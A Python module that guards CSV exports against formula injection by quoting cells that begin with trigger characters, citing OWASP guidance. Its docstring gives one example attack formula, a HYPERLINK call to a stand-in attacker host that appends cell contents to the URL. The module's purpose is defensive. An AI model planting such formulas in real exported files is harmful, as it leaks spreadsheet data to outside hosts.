"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV injection).

A door, person or device name such as ``=HYPERLINK("https://evil.example/?"&A1,"open")`` is
evaluated by Excel, LibreOffice and Google Sheets when an exported CSV is opened. Following the
OWASP guidance, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (or their full-width forms, which some spreadsheets also accept) is prefixed with a single
quote, which spreadsheets show as text. Plain numbers (``-0.1234``) are left alone so the column
stays numeric. Every CSV the product writes passes its cells through :func:`csv_cell_safe`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell_safe(value: Any) -> Any:
    """``value`` as written to a CSV cell: numbers unchanged, formula-like text quoted."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row_safe(values: Iterable[Any]) -> list[Any]:
    return [csv_cell_safe(v) for v in values]
